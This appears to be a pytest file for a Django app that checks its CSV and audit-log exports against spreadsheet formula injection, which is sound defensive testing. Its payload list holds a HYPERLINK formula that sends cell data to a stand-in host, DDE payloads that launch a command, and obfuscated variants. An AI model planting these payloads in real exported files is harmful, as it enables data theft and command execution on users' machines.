"""Formulas in files for spreadsheets: whatever an engine or a person calls something, no cell of any file begins to calculate."""

import csv
import io
import re

import pytest
from django.test import Client

from tests import users as people
from tests.resources import samples
from tests.stub_engine import StubEngine, identity
from tests.users import Users
from workflows_ui.audit.services import audit_log
from workflows_ui.audit.services.audit_log import Actor
from workflows_ui.lists.export import escape_formulas
from workflows_ui.members.models import Flavour
from workflows_ui.resource_admin.resource import Resource
from workflows_ui.resources import RESOURCES
from workflows_ui.tables import views as table_views

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "harmless;=1+1",
    "two\n=1+1",
    'quoted",=1+1',
]
#: How spreadsheets part cells: at commas, and at semicolons or tabs where a comma stands in numbers.
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")


def running(content: bytes) -> list[str]:
    """The cells that would calculate, as a spreadsheet with commas reads the file, and as one with semicolons does."""
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    found = [cell for cell in cells if cell.startswith(_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    return found + re.findall(r"(?<=[;\t\r\n])[=+@＝＋＠].*", text)


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_no_text_stays_a_formula(formula: str) -> None:
    file = io.StringIO()
    csv.writer(file).writerow([escape_formulas(formula)])
    assert running(file.getvalue().encode()) == []
    made = table_views.content("csv", {"name": "x", "fields": [formula], "rows": [{formula: formula}]})
    assert running(made.encode()) == []


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
@pytest.mark.sampled(4)
def test_no_name_becomes_a_formula_in_any_file(
    users: Users, owner: Client, stub_engine: StubEngine, formula: str
) -> None:
    here: Resource
    for here in RESOURCES:
        sample = samples.sample_for(here)
        imbrace = sample.flavour == Flavour.IMBRACE
        flavour, address = (
            (Flavour.IMBRACE, stub_engine.url) if imbrace else (Flavour.ACTIVEPIECES, f"{stub_engine.url}/api")
        )
        people.move(users.workspace, flavour=flavour, address=address)
        sample.fill(stub_engine, formula)
        answer = owner.get(f"{here.url('sales')}export/csv/")
        if answer.status_code == 404:
            answer = owner.get(here.url("sales").replace("/w/sales/", "/w/sales/export/") + "csv/")
        assert running(answer.content) == [], here.name
    audit_log.record(
        Actor(users.owner, address=None),
        "flows.rename",
        workspace=users.workspace,
        object_type="flows",
        object_id=identity(1),
        object_name=formula,
        reason=formula,
        before=formula,
    )
    answer = owner.get("/w/sales/audit/file/csv/")
    assert running(b"".join(answer)) == []


def test_the_check_finds_what_it_looks_for() -> None:
    for text in ("=1", "a;=1", '"two\n=1"', "＝1", "-1+1"):
        assert running(text.encode()), text
    assert running(b"-1,2,-3.5,'=1\n") == []
